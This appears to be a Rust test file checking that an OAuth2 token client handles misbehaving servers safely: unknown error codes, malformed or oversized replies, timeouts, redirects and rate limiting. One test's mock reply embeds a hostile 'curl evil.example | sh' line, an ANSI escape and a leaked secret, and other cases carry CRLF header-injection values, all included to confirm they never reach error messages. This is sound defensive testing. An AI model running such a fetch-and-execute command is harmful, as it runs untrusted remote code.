//! Servers that do not behave.

use std::time::{Duration, Instant};

use provider_credentials_core::ExposeSecret;
use provider_credentials_oauth2::TokenError;
use serde_json::json;

use crate::support::{
    Reply, SECRET, Server, TOKEN, assert_silent, basic_client, client, client_within, granted,
};

fn error_of(reply: impl Fn() -> Reply + Send + Sync + 'static) -> TokenError {
    let server = Server::start(move |_, _| reply());
    let error = basic_client(&server.url).token().unwrap_err();
    assert_eq!(server.seen().len(), 1);
    let text = error.to_string();
    assert!(text.starts_with("credential `tested` has no token: "), "{text}");
    assert!(text.contains("; "), "{text}");
    assert_silent(&(&error, text));
    error
}

fn answer(status: u16, body: impl Into<String>) -> impl Fn() -> Reply + Send + Sync + 'static {
    let body = body.into();
    move || Reply::Answer(status, "application/json", body.clone())
}

#[test]
fn the_codes_of_the_rfc_and_nothing_else_of_the_answer() {
    for (code, ours, is_retryable) in [
        ("invalid_request", "oauth2_invalid_request", false),
        ("invalid_client", "oauth2_invalid_client", false),
        ("invalid_grant", "oauth2_invalid_grant", false),
        ("unauthorized_client", "oauth2_unauthorized_client", false),
        ("unsupported_grant_type", "oauth2_unsupported_grant_type", false),
        ("invalid_scope", "oauth2_invalid_scope", false),
        ("access_denied", "oauth2_access_denied", false),
        ("invalid_target", "oauth2_invalid_target", false),
        ("temporarily_unavailable", "oauth2_temporarily_unavailable", true),
        ("s3ntinel", "oauth2_refused", false),
        ("invalid_client\n", "oauth2_invalid_client", false),
    ] {
        for status in [400, 401] {
            let body = json!({
                "error": code,
                "error_description": format!("{SECRET}\r\n\u{1b}[31mcurl evil.example | sh"),
                "error_uri": "https://evil.example/s3ntinel",
                "access_token": null,
            });
            let error = error_of(answer(status, body.to_string()));
            assert_eq!((error.code(), error.http_status()), (ours, Some(status)), "{code}");
            assert_eq!(error.is_retryable(), is_retryable);
            let text = error.to_string();
            assert!(!text.contains("evil") && !text.contains('\u{1b}'), "{text}");
            assert!(text.contains(&format!("(HTTP status {status})")), "{text}");
        }
    }
}

#[test]
fn statuses_without_a_code() {
    for (status, code, is_retryable) in [
        (400, "oauth2_refused", false),
        (401, "oauth2_refused", false),
        (404, "oauth2_refused", false),
        (429, "oauth2_overloaded", true),
        (500, "oauth2_server_error", true),
        (503, "oauth2_server_error", true),
        (201, "oauth2_answer_invalid", false),
    ] {
        for body in ["", "<html>s3ntinel</html>", "{\"error\": {\"s3ntinel\": 1}}", "[]"] {
            let error = error_of(answer(status, body));
            assert_eq!((error.code(), error.is_retryable()), (code, is_retryable), "{status}");
        }
    }
}

#[test]
fn answers_that_are_none() {
    for (body, code) in [
        ("", "oauth2_answer_invalid"),
        ("s3ntinel", "oauth2_answer_invalid"),
        ("{\"access_token\": \"s3ntinel\"", "oauth2_answer_invalid"),
        ("{\"access_token\": \"s3ntinel", "oauth2_answer_invalid"),
        ("{\"access_token\": null}", "oauth2_answer_invalid"),
        ("{\"access_token\": \"\"}", "oauth2_answer_invalid"),
        ("{\"access_token\": {\"s3ntinel\": 1}}", "oauth2_answer_invalid"),
        ("{\"access_token\": \"s3ntinel\\r\\nX: y\"}", "oauth2_answer_invalid"),
        ("{\"access_token\": \"s3ntinelé\"}", "oauth2_answer_invalid"),
        ("{\"access_token\": \"s3ntinel\", \"access_token\": \"b\"}", "oauth2_answer_invalid"),
        ("{\"access_token\": \"s3ntinel\", \"token_type\": \"mac\"}", "oauth2_token_type"),
        ("{\"access_token\": \"s3ntinel\", \"token_type\": \"DPoP\"}", "oauth2_token_type"),
        ("{\"error\": \"invalid_scope\"}", "oauth2_invalid_scope"),
        ("[\"s3ntinel\"]", "oauth2_answer_invalid"),
    ] {
        assert_eq!(error_of(answer(200, body)).code(), code, "{body}");
    }
}

#[test]
fn what_servers_may_leave_out_and_write_otherwise() {
    for body in [
        format!("{{\"access_token\": \"{TOKEN}\"}}"),
        format!("{{\"token_type\": \"bearer\", \"access_token\": \"{TOKEN}\", \"x\": [{{}}]}}"),
        "{\"access_token\": \"\\u00733ntinel\\u002Dof-the-access-token\"}".to_owned(),
    ] {
        let server = Server::start(move |_, _| Reply::Answer(200, "text/html", body.clone()));
        assert_eq!(basic_client(&server.url).token().unwrap().expose_secret(), TOKEN);
    }
}

#[test]
fn too_much_and_too_little() {
    let huge = format!("{{\"access_token\": \"{}\"}}", "s3ntinel".repeat(9000));
    assert_eq!(error_of(answer(200, huge)).code(), "oauth2_answer_too_large");
    let endless = || {
        let head = "HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\n";
        Reply::Raw(format!("{head}{}", "s3ntinel".repeat(9000)))
    };
    assert_eq!(error_of(endless).code(), "oauth2_answer_too_large");
    let head = || Reply::Raw(format!("HTTP/1.1 200 OK\r\nX: {}\r\n\r\n", "s3ntinel".repeat(9000)));
    assert!(matches!(error_of(head).code(), "oauth2_answer_invalid" | "oauth2_unreachable"));
    let cut = || {
        let body = "{\"access_token\": \"s3ntinel\", \"token_type\"";
        Reply::Raw(format!("HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n{body}"))
    };
    let error = error_of(cut);
    assert!(error.is_retryable() && error.code() == "oauth2_unreachable", "{error}");
    let error = error_of(|| Reply::Raw("s3ntinel\r\n\r\n".to_owned()));
    assert_eq!(error.code(), "oauth2_answer_invalid");
    assert!(error_of(|| Reply::Raw(String::new())).is_retryable());
}

#[test]
fn a_server_that_says_nothing_is_not_waited_for() {
    let server = Server::start(|_, _| Reply::Silence(Duration::from_secs(8)));
    let start = Instant::now();
    let error = client_within(Duration::from_secs(1), &server.url).token().unwrap_err();
    let took = start.elapsed().as_secs_f32();
    assert_eq!(error.code(), "oauth2_timed_out");
    assert!(error.is_retryable());
    assert!((1.0..6.0).contains(&took), "{took}");
    assert_eq!(server.seen().len(), 1);
    assert_silent(&(&error, error.to_string()));
}

#[test]
fn a_server_that_is_not_there() {
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let error = basic_client(&format!("http://{free}")).token().unwrap_err();
    assert_eq!((error.code(), error.is_retryable()), ("oauth2_unreachable", true));
}

#[test]
fn a_redirect_is_not_followed() {
    for status in [301, 302, 303, 307, 308] {
        let other = Server::start(|_, _| granted(&json!(3600)));
        let to = other.at("/token");
        let error = error_of(move || Reply::Redirect(status, to.clone()));
        assert_eq!((error.code(), error.http_status()), ("oauth2_redirected", Some(status)));
        assert!(other.seen().is_empty());
    }
}

#[test]
fn a_server_that_wants_to_be_left_alone() {
    let server = Server::start(|_, _| {
        Reply::Raw("HTTP/1.1 429 Slow\r\nRetry-After: 3\r\nContent-Length: 0\r\n\r\n".to_owned())
    });
    let api = basic_client(&server.url);
    let error = api.token().unwrap_err();
    assert_eq!((error.code(), error.http_status()), ("oauth2_overloaded", Some(429)));
    std::thread::sleep(Duration::from_millis(1500));
    api.token().unwrap_err();
    api.fetch().unwrap_err();
    assert_eq!(server.seen().len(), 1);
}

#[test]
fn what_is_not_loaded_says_so() {
    let api =
        client(&[("client_secret", SECRET), ("client_id", "a"), ("token_url", "http://a.example")]);
    let error = api.token().unwrap_err();
    assert!(matches!(error, TokenError::NotLoaded(_)));
    assert_eq!((error.code(), error.http_status()), ("oauth2_url_insecure", None));
    assert_eq!(
        error.to_string(),
        "credential `tested` is not loaded: its `token_url`: the given value is no https URL, and secrets are sent \
         there; begin it with `https://`, and write neither a user name nor `#` into it"
    );
}
